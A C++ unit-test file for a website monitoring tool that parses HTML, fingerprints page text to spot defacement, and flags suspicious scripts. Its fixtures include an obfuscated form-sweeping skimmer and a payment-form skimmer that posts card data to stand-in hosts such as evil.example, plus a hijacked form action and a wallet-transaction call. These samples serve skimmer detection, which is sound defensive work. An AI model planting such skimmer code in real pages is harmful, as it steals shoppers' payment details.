// SPDX-License-Identifier: Apache-2.0
#include "probes/html.h"

#include "probes/script.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <ctime>

namespace bw {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;

Page page(std::string_view document) {
  return read_html(document, parse_url("https://www.shop.example/a/b?c=1").value());
}
std::vector<std::string> script_urls(const Page& page) {
  std::vector<std::string> urls;
  urls.reserve(page.scripts.size());
  for (const auto& script : page.scripts)
    urls.push_back(script.url ? print(*script.url) : "inline");
  return urls;
}

TEST(Html, ReadsWhatAReaderSees) {
  const auto seen = page(
      "<!doctype html><html lang=EN-gb><head><title> Hartley &amp; Moor\n</title><style>p{}</style>"
      "</head><body><!-- <p>no</p> --><h1>We&#8217;re <b>open</b></h1><p>Price: &pound;5</p>"
      "<div hidden>not <div>this</div> either</div><p style='color:red; display: none'>nor this"
      "<p>But <span>th</span>is.<noscript>Switch on scripts</noscript><template>x</template>");
  EXPECT_EQ(seen.title, "Hartley & Moor");
  EXPECT_EQ(seen.language, "en-gb");
  EXPECT_EQ(seen.text, "We’re open Price: £5 But this.");
  EXPECT_EQ(seen.headings, "We’re open");
}

TEST(Html, FindsScriptsTheWayABrowserDoes) {
  const auto seen = page(
      "<base href='/static/'><script src=app.js integrity='sha384-abc'></script>"
      "<script type='application/json'>{\"a\":1}</script>"
      "<script>var a = '</scrip' + 't>';</script>"
      "<script><!-- <script>deep</script> --></script>"
      "<noscript><!-- </noscript><script src='//evil.example/x.js'></script> -->"
      "<textarea><script>no</script></textarea>"
      "<svg><style><script src=https://in.svg.example/s.js></script></style></svg>"
      "<script src='data:text/javascript,alert(1)'></script>");
  EXPECT_THAT(script_urls(seen),
              ElementsAre("https://www.shop.example/static/app.js",
                          "inline",
                          "inline",
                          "https://evil.example/x.js",
                          "https://in.svg.example/s.js",
                          "inline"));
  EXPECT_EQ(seen.scripts.at(0).integrity, "sha384-abc");
  EXPECT_EQ(seen.scripts.at(1).text, "var a = '</scrip' + 't>';");
  EXPECT_EQ(seen.scripts.at(2).text, "<!-- <script>deep</script> -->");
}

TEST(Html, FindsFormsFramesAndSensitiveFields) {
  const auto seen = page(
      "<form action='/pay?x=1' method=POST><input name=card autocomplete='cc-number'>"
      "<input name=csrf type=hidden value='a&amp;b'><input type=password name=pw>"
      "<button formaction='https://evil.example/take'>Pay</button></form>"
      "<iframe src='https://psp.example/frame?m=1'></iframe><iframe srcdoc='<p>'></iframe>"
      "<input name=otp><form><input name=q></form>");
  ASSERT_EQ(seen.forms.size(), 4U);
  EXPECT_EQ(print(seen.forms.at(0).action.value()), "https://evil.example/take");
  EXPECT_EQ(print(seen.forms.at(1).action.value()), "https://www.shop.example/pay?x=1");
  EXPECT_EQ(seen.forms.at(1).method, "post");
  EXPECT_EQ(seen.forms.at(1).fields.at(1).value, "a&b");
  EXPECT_FALSE(seen.forms.at(2).action);
  EXPECT_THAT(seen.frames, ElementsAre("https://psp.example", "inline"));
  EXPECT_THAT(seen.fields, ElementsAre("card-number", "password", "one-time-code"));
}

TEST(Html, DropsWhatIsCutShortAndWhatIsNoMarkup) {
  EXPECT_EQ(page("a < b &amp; c <3 </3> d <!-- e").text, "a < b & c <3 d");
  EXPECT_EQ(page("a<!-->b<!--->c<!-- x --!>d<?php e ?>f").text, "abcdf");
  EXPECT_EQ(page("a<p title='unclosed>b").text, "a");
  EXPECT_EQ(page("\xff\xfe bad \xc3( bytes\xed\xa0\x80").text, "bad ( bytes");
  EXPECT_EQ(page("x&#0;y&#x110000;z&#146;&bogus;&").text, "x\uFFFDy\uFFFDz’&bogus;&");
  EXPECT_EQ(page("").text, "");
}

// The least processor time of three, in seconds: neither a busy machine nor a slow one matters.
double cost_of(std::string_view body) {
  double least = 1e9;
  for (int i = 0; i < 3; ++i) {
    const auto start = std::clock();
    EXPECT_LE(page(body).text.size(), 32U << 10);
    least = std::min(least, static_cast<double>(std::clock() - start) / CLOCKS_PER_SEC);
  }
  return least;
}

TEST(Html, TakesTimeThatGrowsWithTheLengthAndNoFaster) {
  constexpr std::size_t kBytes = 1 << 13;
  for (const auto* piece : {"<p class=a href='b'>hello world of text</p>",
                            "<div>",
                            "<a>",
                            "<",
                            "<!--",
                            "<script>",
                            "</script",
                            "<p hidden>",
                            "&amp;",
                            "<x a b c d=e>",
                            "<svg>",
                            "<script><!--<script>",
                            "<input>",
                            "\xff",
                            "<p a='",
                            "<title>x</title>",
                            "word "}) {
    std::string body;
    while (body.size() < 8 * kBytes)
      body += piece;
    const auto part = cost_of(std::string_view(body).substr(0, kBytes));
    // Eight times in theory, sixty-four if every byte looked at all the others.
    EXPECT_LT(cost_of(body), 24 * part + 0.005) << piece;
  }
}

TEST(Fingerprint, HoldsWhenOnlyNumbersAndTokensChange) {
  const auto before = page(
      "<ul><li>Blue shirt £12.00</li><li>Red shirt £15.00</li></ul><p>Order by Monday 14:00</p>");
  const auto after = page(
      "<ul><li>Blue shirt £9.50</li><li>Red shirt £1,15</li></ul><p>Order by Friday 9:30 pm</p>");
  EXPECT_EQ(text_fingerprint(before.text), text_fingerprint(after.text));
  EXPECT_EQ(before.shape, after.shape);
}

TEST(Fingerprint, TellsAnotherPageFromASlightChange) {
  std::string shop = "New in this week. ";
  for (const auto* thing : {"Linen shirts",
                            "Wool coats",
                            "Leather boots",
                            "Silk scarves",
                            "Denim jackets",
                            "Cotton socks",
                            "Straw hats",
                            "Canvas bags"}) {
    shop += std::string(thing) +
            " with free delivery to your door or to any of our stores. Add to bag. ";
  }
  const auto usual = text_fingerprint(shop).value();
  EXPECT_LE(distance(usual, text_fingerprint(shop + "Sale ends soon.").value()), 8);
  const auto other =
      text_fingerprint("Owned by the Electronic Lantern Army. Greetings to all friends.");
  EXPECT_GE(distance(usual, other.value()), 16);
  EXPECT_FALSE(text_fingerprint("12 34"));
}

TEST(Fingerprint, PrintsWhatItParses) {
  // The value is stored for years: the algorithm must not change.
  EXPECT_EQ(print_fingerprint(text_fingerprint("Please bear with us").value()), "8860005028114483");
  EXPECT_EQ(parse_fingerprint("00000000000000ff"), Fingerprint{255});
  for (const auto* text : {"", "ff", "00000000000000fg", "-000000000000001", "00000000000000ff0"}) {
    EXPECT_FALSE(parse_fingerprint(text)) << text;
  }
}

TEST(Script, HashIgnoresNoncesButNotCode) {
  const auto hash = script_hash("window.cfg = {t: 1714000000, n: \"a8f3k2l9q0z7\"};\n go('x')");
  EXPECT_EQ(hash.size(), 12U);
  EXPECT_EQ(hash, script_hash("window.cfg={t:1714999999,n:\"zz91k2l9q0z0aa\"};go('x')"));
  EXPECT_NE(hash, script_hash("window.cfg={t:1714999999,n:\"zz91k2l9q0z0aa\"};go('y')"));
}

TEST(Script, KnowsASkimmerByTheCompanyOfItsTraits) {
  const auto skimmer = read_script(
      "var "
      "_0xd3c8=['\\x66\\x6F\\x72\\x6D','"
      "\\x69\\x6E\\x70\\x75\\x74\\x2C\\x73\\x65\\x6C\\x65\\x63\\x74',"
      "'\\x68\\x74\\x74\\x70\\x73\\x3A\\x2F\\x2F\\x65\\x76\\x69\\x6C\\x2E\\x65\\x78\\x61\\x6D\\x70"
      "\\x6C\\x65/js'];"
      "document.querySelectorAll('input,select').forEach(f);");
  EXPECT_THAT(skimmer.traits,
              ElementsAre("form_sweep", "hex_strings", "obfuscated_names", "sends_elsewhere"));
  EXPECT_THAT(skimmer.origins, ElementsAre("https://evil.example"));
  EXPECT_TRUE(is_suspect(skimmer));
  EXPECT_TRUE(
      is_suspect(read_script("b.addEventListener('mouseup',function(){var "
                             "f=JSON.stringify(Array.from(new FormData(document."
                             "getElementById('paymentForm'))));setTimeout(function(){var x=new "
                             "XMLHttpRequest();x.open('POST',"
                             "'https://ways.example/api/');x.send(f)},500)})")));
  EXPECT_TRUE(is_suspect(read_script("ethereum.request({method:'eth_sendTransaction'})")));
  EXPECT_TRUE(is_suspect(read_script("alert('You have been hacked by the Lantern Army')")));
}

TEST(Script, LetsOrdinaryCodeBe) {
  for (const auto* source :
       {"(function(w,d){w.heron={seen:[]};d.addEventListener('scroll',f)})(window,document);",
        "window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}",
        "setTimeout(function(){fetch('/api/basket')},100)",
        "retrieval('x')",
        "const price_0xl = 4;"}) {
    const auto reading = read_script(source);
    EXPECT_FALSE(is_suspect(reading)) << source;
  }
  EXPECT_THAT(read_script("").traits, IsEmpty());
}

}  // namespace
}  // namespace bw
